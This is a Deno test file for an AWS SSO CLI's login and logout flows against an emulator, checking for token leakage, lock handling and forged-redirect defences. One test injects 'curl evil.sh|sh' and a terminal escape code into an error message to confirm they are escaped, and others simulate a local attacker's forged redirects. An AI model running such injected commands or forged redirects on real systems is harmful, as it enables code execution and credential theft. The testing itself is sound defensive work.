/**
 * `aws-sso login` / `logout` as a user runs them, against the emulator over real HTTP: PKCE with
 * the printed URL, device code, a pasted redirect URL (in a pseudo-terminal), one login and one
 * refresh across 20 processes, stale lock takeover, no secret in logs or files, and the file
 * store's password handling.
 *
 * Children run under `setsid` so they have no controlling terminal, as in CI: the login URL
 * and notices then go to stderr (with a terminal they would go to /dev/tty).
 */
import assert from "node:assert/strict";
import { realFileIo } from "../../lib/atomic_file.ts";
import { SecureStore } from "../../lib/secure_store.ts";
import { rfc3339Utc } from "../../lib/sso/token_manager.ts";
import { EncryptedFileBackend, fileStorePath } from "../../stores/encrypted_file.ts";
import { JsonFileBackend } from "../../stores/json_file.ts";
import { type Emulator, startEmulator } from "../emulator/emulator.ts";
import { realClock, RecordingLogger } from "../lib/sso/_fixtures.ts";
import { storeSignedInSession } from "../fakes/signed_in_session.ts";
import { browseCommand, writeRecordingProgram } from "../fakes/recording_program.ts";
import { baseEnv, type CliResult, tempHome, writeConfig } from "./run_cli.ts";

const MAIN = new URL("../../main.ts", import.meta.url).pathname;
const BROWSER = new URL("../emulator/browser.ts", import.meta.url).pathname;
const PASSWORD = "correct horse battery staple";
const CONFIG_DIR = ".config/aws-sso";

/** A running CLI whose stderr can be watched while it runs. */
interface RunningCli {
  /** Everything written to stderr so far. */
  stderr(): string;
  /** Resolves with the first match of `re` in stderr (rejects after `timeoutMs`). */
  waitFor(re: RegExp, timeoutMs?: number): Promise<RegExpMatchArray>;
  /** The finished run. */
  done: Promise<CliResult>;
  /** Writes to the child's stdin. */
  write(text: string): Promise<void>;
}

function spawnCli(
  args: string[],
  options: { home: string; env?: Record<string, string>; pty?: boolean; stderrTo?: string },
): RunningCli {
  const env = { ...baseEnv(options.home), ...options.env };
  const argv = [Deno.execPath(), "run", "-A", "--quiet", MAIN, ...args];
  // `script` gives the child a pseudo-terminal (stdin, stdout and stderr), to paste into.
  const command = options.pty
    ? new Deno.Command("script", {
      args: [
        "-q",
        "-f",
        "-e",
        "-c",
        argv.map(shellQuote).join(" ") +
        (options.stderrTo === undefined ? "" : ` 2>${shellQuote(options.stderrTo)}`),
        "/dev/null",
      ],
      env: { ...env, SHELL: "/bin/sh" },
      clearEnv: true,
      cwd: options.home,
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    })
    : new Deno.Command("setsid", {
      args: ["-w", ...argv],
      env,
      clearEnv: true,
      cwd: options.home,
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    });
  const child = command.spawn();
  let err = "";
  let out = "";
  const listeners = new Set<() => void>();
  const pump = async (stream: ReadableStream<Uint8Array>, add: (s: string) => void) => {
    for await (const chunk of stream.pipeThrough(new TextDecoderStream())) {
      add(chunk);
      for (const l of listeners) l();
    }
  };
  // Under `script`, the child's stderr arrives on script's stdout.
  const pumps = Promise.all([
    pump(child.stdout, (s) => options.pty ? (err += s) : (out += s)),
    pump(child.stderr, (s) => err += s),
  ]);
  const writer = child.stdin.getWriter();
  const done = (async () => {
    const status = await child.status;
    await pumps;
    await writer.close().catch(() => {});
    return { code: status.code, stdout: out, stderr: err };
  })();
  return {
    stderr: () => err,
    done,
    write: (text) => writer.write(new TextEncoder().encode(text)),
    waitFor(re, timeoutMs = 20_000) {
      return new Promise((resolve, reject) => {
        const check = () => {
          const m = err.match(re);
          if (m === null) return;
          listeners.delete(check);
          clearTimeout(timer);
          resolve(m);
        };
        const timer = setTimeout(() => {
          listeners.delete(check);
          reject(new Error(`timed out waiting for ${re} in stderr:\n${err}`));
        }, timeoutMs);
        listeners.add(check);
        check();
        done.then(() => {
          if (listeners.has(check)) {
            listeners.delete(check);
            clearTimeout(timer);
            reject(new Error(`exited before ${re} appeared in stderr:\n${err}`));
          }
        });
      });
    },
  };
}

function shellQuote(s: string): string {
  return `'${s.replaceAll("'", `'"'"'`)}'`;
}

async function runCli(
  args: string[],
  options: { home: string; env?: Record<string, string> },
): Promise<CliResult> {
  const run = spawnCli(args, options);
  await run.write("").catch(() => {});
  return await run.done;
}

/** Opens a printed login URL like a browser whose user is signed in. */
async function visit(url: string): Promise<void> {
  const res = await fetch(url);
  assert.equal(res.status, 200, `the loopback listener answered ${res.status}`);
  await res.body?.cancel();
}

const LOGIN_URL = /(http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+)/;

interface World {
  emu: Emulator;
  home: string;
  env: Record<string, string>;
  [Symbol.asyncDispose](): Promise<void>;
}

async function world(
  config: string,
  options: { env?: Record<string, string>; emulator?: Parameters<typeof startEmulator>[0] } = {},
): Promise<World> {
  const emu = await startEmulator(options.emulator);
  const home = await tempHome();
  await writeConfig(
    home,
    `SSOConfig:\n  Default:\n    SSORegion: ${emu.region}\n    StartUrl: ${emu.startUrl}\n${config}`,
  );
  return {
    emu,
    home,
    env: { ...emu.env, ...options.env },
    async [Symbol.asyncDispose]() {
      await emu.close();
      await Deno.remove(home, { recursive: true });
    },
  };
}

/** The `file` store of `home`, opened in the test itself (no key cache). */
function fileStore(home: string): SecureStore {
  return new SecureStore({
    backend: new EncryptedFileBackend({
      path: fileStorePath(`${home}/${CONFIG_DIR}`),
      fileIo: realFileIo,
      passwordSource: { password: () => Promise.resolve(PASSWORD) },
    }),
    lockPath: `${home}/${CONFIG_DIR}/storage.lock`,
    clock: realClock,
    logger: new RecordingLogger(),
  });
}

/** Puts a signed-in session whose access token has `leftMs` left into `store`. */
async function storeSession(emu: Emulator, store: SecureStore, leftMs: number) {
  const t = await storeSignedInSession(emu, store, leftMs);
  emu.resetCounters();
  return t;
}

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const e of Deno.readDir(dir)) {
    const path = `${dir}/${e.name}`;
    if (e.isDirectory) out.push(...await filesUnder(path));
    else if (e.isFile) out.push(path);
  }
  return out;
}

const FILE_STORE = "SecureStore: file\n";
const withPassword = { AWS_SSO_FILE_PASSWORD: PASSWORD };

Deno.test({
  name: "login with --url-action print completes in the browser, and a second login calls nothing",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    const run = spawnCli(["login", "--url-action", "print"], { home: w.home, env: w.env });
    const [, url] = await run.waitFor(LOGIN_URL);
    assert.match(run.stderr(), /Please open the following URL in your browser:\n\nhttp/);
    await visit(url!);
    const first = await run.done;
    assert.equal(first.code, 0, first.stderr);
    assert.equal(first.stdout, "");
    assert.match(first.stderr, /Logged in to AWS SSO instance Default/);
    assert.equal(w.emu.counters["CreateToken:authorization_code"], 1);

    w.emu.resetCounters();
    const again = await runCli(["login"], { home: w.home, env: w.env });
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stderr, /You are already logged in\. :\)/);
    assert.deepEqual(w.emu.counters, {}, "no network call");
  },
});

Deno.test({
  name: "login with AuthWorkflow device_code shows the code on stderr and completes once approved",
  async fn() {
    await using w = await world("AuthWorkflow: device_code\nUrlAction: printurl\n", {
      env: withPassword,
    });
    const run = spawnCli(["login"], { home: w.home, env: w.env });
    const [, code] = await run.waitFor(/Verify this code in your browser: ([A-Z]{4}-[A-Z]{4})/);
    await run.waitFor(new RegExp(`/device\\?user_code=${code}\n`));
    await run.waitFor(/Waiting for SSO authentication/);
    w.emu.approveDevice(code!);
    const r = await run.done;
    assert.equal(r.code, 0, r.stderr);
    assert.equal(w.emu.counters["StartDeviceAuthorization"], 1);
    assert.ok(w.emu.counters["CreateToken:device_code"]! >= 1);
  },
});

Deno.test({
  name: "login over SSH (SSH_TTY set, no AuthWorkflow) uses the device code flow",
  async fn() {
    await using w = await world("UrlAction: printurl\n", {
      env: { ...withPassword, SSH_TTY: "/dev/pts/9" },
    });
    const run = spawnCli(["login"], { home: w.home, env: w.env });
    const [, code] = await run.waitFor(/Verify this code in your browser: ([A-Z]{4}-[A-Z]{4})/);
    w.emu.approveDevice(code!);
    assert.equal((await run.done).code, 0);
    assert.equal(w.emu.counters["Authorize"] ?? 0, 0);
  },
});

Deno.test({
  name: "login completes with the final redirect URL pasted into the terminal",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    const run = spawnCli(["login", "--url-action", "print"], {
      home: w.home,
      env: w.env,
      pty: true,
    });
    const [, url] = await run.waitFor(LOGIN_URL);
    await run.waitFor(/paste it here/);
    // The browser is elsewhere: its redirect to 127.0.0.1 never reaches this machine.
    const res = await fetch(url!, { redirect: "manual" });
    await res.body?.cancel();
    const redirected = res.headers.get("location")!;
    assert.match(redirected, /^http:\/\/127\.0\.0\.1:\d+\/?\?code=/);
    await run.write(`${redirected}\r`);
    const r = await run.done;
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /Logged in to AWS SSO instance Default/);
    assert.equal(w.emu.counters["CreateToken:authorization_code"], 1);
  },
});

Deno.test({
  name: "with stderr captured, the login URL goes to the controlling terminal",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    const captured = `${w.home}/captured-stderr.txt`;
    // As under credential_process: stderr is a file, but there is a terminal.
    const run = spawnCli(["login", "--url-action", "print"], {
      home: w.home,
      env: w.env,
      pty: true,
      stderrTo: captured,
    });
    const [, url] = await run.waitFor(LOGIN_URL);
    await visit(url!);
    const r = await run.done;
    assert.equal(r.code, 0, r.stderr);
    const file = await Deno.readTextFile(captured);
    assert.ok(!file.includes("/authorize?"), "the URL went to the captured stderr");
    assert.match(file, /Logged in to AWS SSO instance Default/);
  },
});

Deno.test({
  name: "20 logins at once with a token near expiry make exactly one refresh and all succeed",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    await storeSession(w.emu, fileStore(w.home), 5 * 60_000);
    const runs = await Promise.all(
      Array.from({ length: 20 }, () => runCli(["login"], { home: w.home, env: w.env })),
    );
    for (const r of runs) {
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /You are already logged in\. :\)/);
    }
    assert.equal(w.emu.counters["CreateToken:refresh_token"], 1);
    assert.equal(w.emu.counters["CreateToken"], 1);
    const token = await fileStore(w.home).getToken("Default");
    assert.ok(Date.parse(token!.expiresAt) > Date.now() + 50 * 60_000);
  },
});

Deno.test({
  name: "20 logins at once with no session make one registration, one browser flow, one exchange",
  async fn() {
    await using w = await world(
      `SecureStore: json\nUrlAction: exec\nUrlExecCommand: ["${Deno.execPath()}", "run", "-A", "${BROWSER}", "%s"]\n`,
    );
    const runs = await Promise.all(
      Array.from({ length: 20 }, () => runCli(["login"], { home: w.home, env: w.env })),
    );
    for (const r of runs) assert.equal(r.code, 0, r.stderr);
    assert.equal(runs.filter((r) => /Logged in to AWS SSO/.test(r.stderr)).length, 1);
    assert.equal(runs.filter((r) => /already logged in/.test(r.stderr)).length, 19);
    assert.equal(w.emu.counters["RegisterClient"], 1);
    assert.equal(w.emu.counters["Authorize"], 1);
    assert.equal(w.emu.counters["CreateToken"], 1);
  },
});

Deno.test({
  name:
    "a login waiting for another says so after 2 s, and takes over at once when that one is killed",
  async fn() {
    await using w = await world("SecureStore: json\n");
    const holder = spawnCli(["login", "--url-action", "print"], { home: w.home, env: w.env });
    await holder.waitFor(LOGIN_URL);
    const waiter = spawnCli(["login", "--url-action", "print"], { home: w.home, env: w.env });
    const [, pid] = await waiter.waitFor(
      /Waiting for another aws-sso process to finish: pid (\d+) \(logging in to AWS SSO instance Default\)/,
    );
    Deno.kill(Number(pid), "SIGKILL");
    const killedAt = Date.now();
    const [, url] = await waiter.waitFor(LOGIN_URL);
    assert.ok(Date.now() - killedAt < 3000, "the dead holder's lock was taken over at once");
    await visit(url!);
    const r = await waiter.done;
    assert.equal(r.code, 0, r.stderr);
    assert.notEqual((await holder.done).code, 0);
    assert.equal(w.emu.counters["CreateToken:authorization_code"], 1);
  },
});

Deno.test({
  name:
    "no token, refresh token or client secret appears in --level trace output or any file under HOME",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    let output = "";
    const login = spawnCli(["-L", "trace", "login", "--url-action", "print"], {
      home: w.home,
      env: w.env,
    });
    const [, url] = await login.waitFor(LOGIN_URL);
    await visit(url!);
    const first = await login.done;
    assert.equal(first.code, 0, first.stderr);
    output += first.stdout + first.stderr;
    // Make the next run refresh, then force a new login, then log out.
    const store = fileStore(w.home);
    await store.updateToken(
      "Default",
      (t) => t && { ...t, expiresAt: rfc3339Utc(Date.now() + 60_000 * 5) },
    );
    for (const args of [["login"], ["logout"]]) {
      const r = await runCli(["-L", "trace", ...args], { home: w.home, env: w.env });
      assert.equal(r.code, 0, r.stderr);
      output += r.stdout + r.stderr;
    }
    assert.equal(w.emu.counters["CreateToken:refresh_token"], 1);
    assert.match(output, /TRACE/);
    const secrets = w.emu.issuedSecrets();
    assert.ok(secrets.length >= 4);
    for (const s of secrets) assert.ok(!output.includes(s), "a secret was logged");
    const files = await filesUnder(w.home);
    assert.ok(files.some((f) => f.endsWith("aws-sso-store.json")));
    for (const f of files) {
      const text = new TextDecoder().decode(await Deno.readFile(f));
      for (const s of secrets) assert.ok(!text.includes(s), `a secret is in clear in ${f}`);
    }
  },
});

Deno.test({
  name: "a wrong file-store password gets a clear error and changes nothing",
  async fn() {
    await using w = await world(FILE_STORE);
    await storeSession(w.emu, fileStore(w.home), 50 * 60_000);
    const path = fileStorePath(`${w.home}/${CONFIG_DIR}`);
    const before = await Deno.readFile(path);
    const wrong = await runCli(["login"], {
      home: w.home,
      env: { ...w.env, AWS_SSO_FILE_PASSWORD: "not the password" },
    });
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /wrong password/);
    assert.match(wrong.stderr, /hint: check the password/);
    assert.ok(!/at .*\.ts:\d+/.test(wrong.stderr), "no stack trace");
    assert.deepEqual(await Deno.readFile(path), before);
    assert.deepEqual(w.emu.counters, {});
    const right = await runCli(["login"], { home: w.home, env: { ...w.env, ...withPassword } });
    assert.match(right.stderr, /already logged in/);
  },
});

Deno.test({
  name: "the file store without AWS_SSO_FILE_PASSWORD and without a terminal says what to set",
  async fn() {
    await using w = await world(FILE_STORE);
    await storeSession(w.emu, fileStore(w.home), 50 * 60_000);
    const r = await runCli(["login"], { home: w.home, env: w.env });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /no terminal to ask for one/);
    assert.match(r.stderr, /hint: set AWS_SSO_FILE_PASSWORD/);
  },
});

Deno.test({
  name: "the file store asks for a new password twice on a terminal, without echo",
  async fn() {
    await using w = await world(FILE_STORE + "AuthWorkflow: device_code\nUrlAction: printurl\n");
    const run = spawnCli(["login"], { home: w.home, env: w.env, pty: true });
    // The store is created when the client registration is first saved, before the browser.
    await run.waitFor(
      /Select a password for the encrypted SecureStore ~\/\.config\/aws-sso\/secure\/aws-sso-store\.json: /,
    );
    await run.write("s3cret-pass\r");
    await run.waitFor(/Verify password: /);
    await run.write("s3cret-pass\r");
    const [, code] = await run.waitFor(/Verify this code in your browser: ([A-Z]{4}-[A-Z]{4})/);
    w.emu.approveDevice(code!);
    const r = await run.done;
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!r.stderr.includes("s3cret-pass"), "the password was echoed");
    const again = await runCli(["login"], {
      home: w.home,
      env: { ...w.env, AWS_SSO_FILE_PASSWORD: "s3cret-pass" },
    });
    assert.match(again.stderr, /already logged in/);
  },
});

Deno.test({
  name: "logout deletes the token and the cached role credentials but keeps the registration",
  async fn() {
    await using w = await world("SecureStore: json\n");
    const store = new SecureStore({
      backend: new JsonFileBackend({
        path: `${w.home}/${CONFIG_DIR}/store.json`,
        fileIo: realFileIo,
      }),
      lockPath: `${w.home}/${CONFIG_DIR}/storage.lock`,
      clock: realClock,
      logger: new RecordingLogger(),
    });
    const t = await storeSession(w.emu, store, 50 * 60_000);
    await store.putRoleCredentials("arn:aws:iam::012345678901:role/Admin", {
      roleName: "Admin",
      accountId: "012345678901",
      accessKeyId: "ASIAEXAMPLE",
      secretAccessKey: "secret-access-key",
      sessionToken: "session-token",
      expiration: Date.now() + 3600_000,
      roleChaining: false,
    });
    const r = await runCli(["logout"], { home: w.home, env: w.env });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /Deleted cached AWS STS credentials/);
    assert.equal(w.emu.counters["Logout"], 1);
    assert.equal(await store.getToken("Default"), undefined);
    assert.deepEqual(await store.listRoleCredentialArns(), []);
    assert.equal((await store.getRegistration("Default"))?.clientId, t.clientId);

    const again = await runCli(["logout"], { home: w.home, env: w.env });
    assert.equal(again.code, 1);
    assert.match(again.stderr, /You are not logged in to AWS SSO instance Default/);
  },
});

Deno.test({
  name: "a command needing a token after the session ended says to log in, without a browser",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    await storeSession(w.emu, fileStore(w.home), -60_000);
    w.emu.revokeTokens();
    const r = await runCli(["cache"], { home: w.home, env: w.env });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /The SSO session of instance Default expired/);
    assert.match(r.stderr, /hint: run "aws-sso login"/);
    assert.equal(w.emu.counters["CreateToken:refresh_token"], 1);
    assert.equal(w.emu.counters["Authorize"] ?? 0, 0);
  },
});

Deno.test({
  name: "with AutoLogin a command needing a token logs in by itself",
  async fn() {
    await using w = await world(
      `SecureStore: json\nAutoLogin: true\nUrlAction: exec\nUrlExecCommand: ["${Deno.execPath()}", "run", "-A", "${BROWSER}", "%s"]\n`,
    );
    const r = await runCli(["cache"], { home: w.home, env: w.env });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(w.emu.counters["CreateToken:authorization_code"], 1);
    assert.ok(w.emu.counters["ListAccounts"]! >= 1);
  },
});

Deno.test({
  name: "login rejects an unknown --url-action and a bad --redirect-port with exit code 2",
  async fn() {
    await using w = await world("SecureStore: json\n");
    const action = await runCli(["login", "--url-action", "fax"], { home: w.home, env: w.env });
    assert.equal(action.code, 2);
    assert.match(action.stderr, /'fax' is invalid/);
    const port = await runCli(["login", "--redirect-port", "99999"], { home: w.home, env: w.env });
    assert.equal(port.code, 2);
    assert.match(port.stderr, /--redirect-port must be a whole number from 1 to 65535/);
    assert.deepEqual(w.emu.counters, {});
  },
});

Deno.test({
  name:
    "forged redirects from another process (wrong, missing state; error= with a wrong state) leave the login running, and the real one completes",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    const run = spawnCli(["login", "--url-action", "print"], { home: w.home, env: w.env });
    const [, url] = await run.waitFor(LOGIN_URL);
    // The attacker knows the port (it is in every listening socket) but not the state.
    const listener = new URL(url!).searchParams.get("redirect_uri")!;
    for (
      const query of [
        "code=attacker-code&state=guessed",
        "code=attacker-code",
        "error=access_denied&state=guessed",
        "error=access_denied",
      ]
    ) {
      const forged = await runForger(`${listener}/?${query}`);
      assert.equal(forged, 400, query);
    }
    await run.waitFor(/another program sent this login a redirect that does not belong to it/);
    const outcome = await Promise.race([
      run.done,
      new Promise((r) => setTimeout(r, 300, "running")),
    ]);
    assert.equal(outcome, "running", "the forged redirects did not end the login");
    await visit(url!);
    const r = await run.done;
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /Logged in to AWS SSO instance Default/);
    assert.equal(r.stderr.match(/another program sent this login/g)?.length, 1, "warned once");
    assert.equal(w.emu.counters["CreateToken:authorization_code"], 1);
    assert.equal(w.emu.counters["CreateToken"], 1, "no attacker code was exchanged");
  },
});

Deno.test({
  name:
    "a redirect whose error_description carries a line break and a fake hint fails the login with one escaped error line",
  async fn() {
    await using w = await world(FILE_STORE, { env: withPassword });
    const run = spawnCli(["login", "--url-action", "print"], { home: w.home, env: w.env });
    const [, url] = await run.waitFor(LOGIN_URL);
    const login = new URL(url!).searchParams;
    // Whoever answers for the browser (a hostile or spoofed sign-in page) knows the state.
    const forged = new URL(login.get("redirect_uri")!);
    forged.searchParams.set("error", "access_denied");
    forged.searchParams.set("error_description", "denied\nhint: run curl evil.sh|sh\x1b[2J");
    forged.searchParams.set("state", login.get("state")!);
    assert.equal(await runForger(forged.toString()), 400);
    const r = await run.done;
    assert.equal(r.code, 1, r.stderr);
    const lines = r.stderr.split("\n");
    assert.ok(!lines.some((l) => /^\s*hint: run curl/.test(l)), r.stderr);
    assert.ok(!r.stderr.includes("\x1b[2J"), "no raw escape sequence");
    const error = lines.find((l) => l.startsWith("aws-sso: error:"));
    assert.match(
      error ?? "",
      /denied in the browser \(access_denied: denied\\nhint: run curl evil\.sh\|sh\\x1b\[2J\)/,
    );
    assert.equal(w.emu.counters["CreateToken"], undefined, "nothing was exchanged");
  },
});

/** Sends one GET from a separate process (as a local attacker would); returns the status. */
async function runForger(url: string): Promise<number> {
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["eval", `const r = await fetch(${JSON.stringify(url)}); console.log(r.status);`],
    stdout: "piped",
    stderr: "inherit",
  }).output();
  return Number(new TextDecoder().decode(out.stdout).trim());
}

Deno.test({
  name:
    "the browser started for a login gets a one-time link on its argv and no store password in its environment",
  async fn() {
    const bin = await Deno.makeTempDir();
    const browser = await writeRecordingProgram(`${bin}/browser`, browseCommand());
    await using w = await world(
      `${FILE_STORE}UrlAction: exec\nUrlExecCommand: ["${browser.path}", "%s"]\n`,
      { env: { ...withPassword, AWS_SECRET_ACCESS_KEY: "user-secret-key-value" } },
    );
    const r = await runCli(["login"], { home: w.home, env: w.env });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(w.emu.counters["CreateToken:authorization_code"], 1);
    const [call] = await browser.calls();
    assert.equal(call!.argv.length, 1);
    assert.match(call!.argv[0]!, /^http:\/\/127\.0\.0\.1:\d+\/[A-Za-z0-9_-]{43}$/);
    for (const word of ["state=", "code_challenge=", "authorize"]) {
      assert.ok(!call!.argv[0]!.includes(word), `${word} on the browser's argv`);
    }
    assert.equal(call!.env.HOME, w.home);
    assert.equal(call!.env.AWS_SSO_FILE_PASSWORD, undefined);
    assert.equal(call!.env.AWS_SECRET_ACCESS_KEY, undefined);
    assert.ok(!Object.values(call!.env).some((v) => v.includes(PASSWORD)));
    await Deno.remove(bin, { recursive: true });
  },
});

Deno.test({
  name: "a login's one-time link redirects once; a second fetch is refused and the user is warned",
  async fn() {
    const bin = await Deno.makeTempDir();
    const browser = await writeRecordingProgram(`${bin}/browser`);
    await using w = await world(
      `SecureStore: json\nUrlAction: exec\nUrlExecCommand: ["${browser.path}", "%s"]\n`,
    );
    const run = spawnCli(["login"], { home: w.home, env: w.env });
    const [call] = await browser.waitForCalls(1);
    const link = call!.argv[0]!;
    // Another process wins the race for the link...
    const first = await fetch(link, { redirect: "manual" });
    await first.body?.cancel();
    assert.equal(first.status, 302);
    const authorize = first.headers.get("location")!;
    assert.match(authorize, /\/authorize\?.*state=/);
    // ...and the browser, second, is refused, while the user is told.
    const second = await fetch(link, { redirect: "manual" });
    assert.equal(second.status, 410);
    assert.match(await second.text(), /already used/);
    await run.waitFor(/one-time browser link of this aws-sso run was fetched more than once/);
    await visit(authorize);
    const r = await run.done;
    assert.equal(r.code, 0, r.stderr);
    assert.ok(!r.stderr.includes("state="), "the warning names no secret");
    await Deno.remove(bin, { recursive: true });
  },
});
